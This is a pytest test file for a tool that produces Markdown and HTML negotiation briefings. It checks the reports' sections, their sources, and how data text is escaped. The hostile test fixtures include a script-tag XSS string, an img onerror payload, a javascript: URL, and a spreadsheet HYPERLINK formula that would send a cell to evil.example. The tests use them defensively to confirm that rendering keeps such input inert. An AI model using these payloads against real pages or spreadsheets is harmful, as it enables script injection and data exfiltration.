"""Briefings: every issue, source and the link are there; the HTML is one offline file; data text is inert."""

from __future__ import annotations

import datetime as dt
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from plotly.offline import get_plotlyjs

from positions.__main__ import main
from positions.brief import brief_html, brief_markdown
from positions.compare import Comparison, Counterpart, Selection, compare
from positions.schema import Demand, Document, Issue, Negotiation, Party
from positions.store import load_negotiation

LINK = "https://positions.example.org/?negotiation=test&parties=north,south&as_of=2025-06-30"
GENERATED = dt.date(2025, 7, 1)
HOSTILE_TEXT = "<script>alert(1)</script> | # not a heading"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def _negotiation(*, hostile: bool = False) -> Negotiation:
    bad_url = Document.model_construct(  # bypasses the schema's own url check: the brief must not rely on it
        id="leak", title="<b>Leaked</b> memo", party="north", date=dt.date(2025, 6, 3), kind="statement",
        publisher="Anon", url="javascript:alert(1)", language="en", certainty="unverified", note=None,
    )
    documents = (
        Document(id="n-june", title="North memo", party="north", date=dt.date(2025, 6, 2), kind="memorandum",
                 publisher="North Gazette", url="https://example.org/north"),
        Document(id="s-june", title="South memo", party="south", date=dt.date(2025, 6, 2), kind="memorandum",
                 publisher="South Herald", url="https://example.org/south?a=1&b=(2)"),
        *((bad_url,) if hostile else ()),
    )
    demands = [
        Demand(id="n-pow", party="north", document="n-june", issue="prisoners", stance=2, text="All-for-all exchange",
               quote="we propose an exchange of all for all"),
        Demand(id="s-pow", party="south", document="s-june", issue="prisoners", stance=2,
               text="All-for-all exchange of prisoners of war"),
        Demand(id="n-cf", party="north", document="n-june", issue="ceasefire", stance=-2,
               text="No ceasefire before withdrawal", condition="only after the South withdraws"),
        Demand(id="s-cf", party="south", document="s-june", issue="ceasefire", stance=2, text="Immediate ceasefire"),
        Demand(id="n-lang", party="north", document="n-june", issue="language", stance=2, text="Official status for our language"),
    ]
    if hostile:
        demands += [
            Demand(id="n-x", party="north", document="leak", issue="language", stance=2, text=HOSTILE_TEXT),
            Demand(id="n-f", party="north", document="leak", issue="language", stance=2, text=FORMULA,
                   condition="<img src=x onerror=alert(2)>"),
        ]
    return Negotiation(
        slug="test",
        title="North–South talks",
        parties=(Party(id="north", name="North", colour="#c0392b"), Party(id="south", name="South", colour="#0057b7")),
        issues=(
            Issue(id="prisoners", label="Prisoners", motion="All prisoners are exchanged, all for all."),
            Issue(id="ceasefire", label="Ceasefire", motion="An immediate ceasefire takes effect."),
            Issue(id="language", label="Language | culture", motion="The North's language gets official status."),
        ),
        documents=documents,
        demands=tuple(demands),
    )


def _comparison(*, hostile: bool = False) -> Comparison:
    return compare(_negotiation(hostile=hostile), Selection(parties=("north", "south"), as_of=dt.date(2025, 6, 30)))


def _markdown(comparison: Comparison, **kw: object) -> str:
    return brief_markdown(comparison, link=LINK, data_version="abc123def456", generated=GENERATED, **kw)


def _html(comparison: Comparison, **kw: object) -> str:
    return brief_html(comparison, link=LINK, data_version="abc123def456", generated=GENERATED, **kw)


def _section(text: str, heading: str) -> str:
    """The text under one `## heading`, up to the next `## `."""
    return text.split(f"## {heading}\n", 1)[1].split("\n## ", 1)[0]


class _Tags(HTMLParser):
    """Start tags with their attributes; script and style bodies are not parsed as markup."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(page: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(page)
    return parser.tags


def test_markdown_has_scorecard_sections_sources_and_link() -> None:
    text = _markdown(_comparison())
    assert text.startswith("# Briefing: North and South — North–South talks\n")
    assert LINK in text and "abc123def456" in text and "2025-06-30" in text and "2025-07-01" in text
    scorecard = _section(text, "Scorecard")
    for label in ("Prisoners", "Ceasefire", "Language \\| culture"):
        assert f"| {label} |" in scorecard
    assert "| Ceasefire | -2 | +2 | divergence | 4.0 |" in scorecard
    assert "Prisoners" in _section(text, "Where they overlap")
    diverge = _section(text, "Where they diverge")
    assert "No ceasefire before withdrawal" in diverge and "Immediate ceasefire" in diverge
    assert "*Condition:* only after the South withdraws" in diverge
    assert "“we propose an exchange of all for all”" in _section(text, "Where they overlap")
    assert "Official status for our language" in _section(text, "Stated by one side only")
    assert "Similar wording is not agreement" in text
    assert "opposite ways" in _section(text, "How to read this")
    sources = _section(text, "Sources")
    assert "[North memo](https://example.org/north) — North Gazette, 2025-06-02, memorandum." in sources
    # Parentheses in an address would end a Markdown link early.
    assert "(https://example.org/south?a=1&b=%282%29)" in sources


def test_markdown_escapes_data_text() -> None:
    text = _markdown(_comparison(hostile=True))
    # Every "<" from data is backslash-escaped: only our own autolinks (<https://...>) stay raw.
    assert re.findall(r"(?<!\\)<(?!https?://)", text) == []
    assert "\\<script\\>alert(1)\\</script\\> \\| \\# not a heading" in text
    assert "\\<img src=x onerror=alert(2)\\>" in text
    assert FORMULA in text
    assert "](javascript" not in text and "<javascript" not in text
    # Escaped pipes keep every table row at its header's width.
    for block in re.findall(r"(?:^\|.*\|$\n?)+", text, flags=re.M):
        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in block.strip().splitlines()}
        assert len(widths) == 1, block


def test_markdown_renders_data_text_as_text() -> None:
    # markdown-it-py comes with Streamlit (through rich); it is a CommonMark renderer that passes raw HTML.
    markdown_it = pytest.importorskip("markdown_it")
    rendered = markdown_it.MarkdownIt("commonmark").enable("table").render(_markdown(_comparison(hostile=True)))
    assert re.findall(r"<(?:script|img|b)\b", rendered) == []
    assert "&lt;script&gt;alert(1)&lt;/script&gt; | # not a heading" in rendered
    hrefs = re.findall(r'href="([^"]*)"', rendered)
    assert hrefs and all(h.startswith("https://") for h in hrefs)


def test_html_is_one_self_contained_file() -> None:
    comparison = _comparison()
    page = _html(comparison)
    tags = _tags(page)
    assert not [a for t, a in tags if t == "script" and "src" in a], "scripts must be inline"
    assert not [t for t, _ in tags if t in ("link", "img", "iframe", "object", "embed")]
    styles = re.findall(r"<style>(.*?)</style>", page, flags=re.S)
    assert styles and not any("@import" in s or "url(" in s for s in styles)
    assert page.count(get_plotlyjs()[:300]) == 1, "plotly.js inlined exactly once"
    divergences = len(comparison.by_relation("divergence"))
    assert page.count('class="plotly-graph-div"') == 1 + divergences
    # The only links are the sources and the link that reopens the view.
    hrefs = {a["href"] for t, a in tags if t == "a"}
    assert hrefs == {LINK, "https://example.org/north", "https://example.org/south?a=1&b=(2)"}
    assert "Content-Security-Policy" in page and "default-src 'none'" in page


def test_html_has_the_same_content_as_markdown() -> None:
    page = _html(_comparison(), counterpart_pairs=[Counterpart("n-pow", "s-pow", 0.94, True)])
    for expected in ("Scorecard", "Where they overlap", "Where they diverge", "How to read this", "Sources",
                     "No ceasefire before withdrawal", "only after the South withdraws", "North Gazette",
                     "Similar wording is not agreement", "abc123def456", "Closest statements by topic", "0.94"):
        assert expected in page
    overlap = page.split("<h2>Where they overlap</h2>", 1)[1].split("<h2>", 1)[0]
    assert "Prisoners" in overlap and "Ceasefire" not in overlap


def test_html_escapes_data_text_and_links_only_http() -> None:
    page = _html(_comparison(hostile=True))
    assert "<script>alert(1)" not in page and "<img src=x" not in page and "<b>Leaked" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; | # not a heading" in page
    assert "&lt;img src=x onerror=alert(2)&gt;" in page
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1)" in page
    hrefs = [a.get("href") or "" for t, a in _tags(page) if t == "a"]
    assert hrefs and all(h.startswith(("https://", "http://")) for h in hrefs)
    assert "&lt;b&gt;Leaked&lt;/b&gt; memo" in page  # the title is still shown, just not linked
    assert "unverified source" in page


def test_counterpart_pairs_are_shown_with_their_cosine_in_markdown() -> None:
    text = _markdown(_comparison(), counterpart_pairs=[Counterpart("n-cf", "s-cf", 0.63, True),
                                                       Counterpart("n-lang", "unknown", 0.5, False)])
    pairs = _section(text, "Closest statements by topic")
    assert "North: No ceasefire before withdrawal | South: Immediate ceasefire | 0.63 | divergence" in pairs
    assert "unknown" not in pairs


@pytest.fixture(scope="module")
def shipped() -> Negotiation:
    result = load_negotiation("russia-ukraine")
    if not result.negotiation or not result.negotiation.demands:
        pytest.skip("the curated Russia–Ukraine demands are not in this checkout")
    assert result.ok, [str(e) for e in result.errors]
    return result.negotiation


def test_shipped_briefing_of_june_2025(shipped: Negotiation) -> None:
    comparison = compare(shipped, Selection(parties=("russia", "ukraine"), as_of=dt.date(2025, 6, 4)))
    text = _markdown(comparison)
    assert "### Prisoners, civilians and the fallen" in _section(text, "Where they overlap")
    assert "### Ceasefire" in _section(text, "Where they diverge")
    for item in comparison.issues:
        assert item.issue.label in _section(text, "Scorecard")
    page = _html(comparison)
    assert page.count('class="plotly-graph-div"') == 1 + len(comparison.by_relation("divergence"))


def test_brief_command_writes_a_briefing_with_its_link(
    shipped: Negotiation, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("POSITIONS_BASE_URL", "https://positions.example.org/app")
    out = tmp_path / "brief.html"
    args = ["brief", "--negotiation", "russia-ukraine", "--parties", "Russia,Ukraine", "--as-of", "2025-06-04"]
    assert main([*args, "--format", "html", "--output", str(out)]) == 0
    page = out.read_text(encoding="utf-8")
    assert "https://positions.example.org/app?negotiation=russia-ukraine&amp;parties=russia,ukraine&amp;as_of=2025-06-04" in page
    assert not list(tmp_path.glob("*.bak"))
    capsys.readouterr()
    assert main([*args, "--format", "md"]) == 0
    text = capsys.readouterr().out
    assert text.startswith("# Briefing: Russia and Ukraine")
    assert "<https://positions.example.org/app?negotiation=russia-ukraine&parties=russia,ukraine&as_of=2025-06-04" in text
    assert main([*args, "--documents", "no-such-document"]) == 2
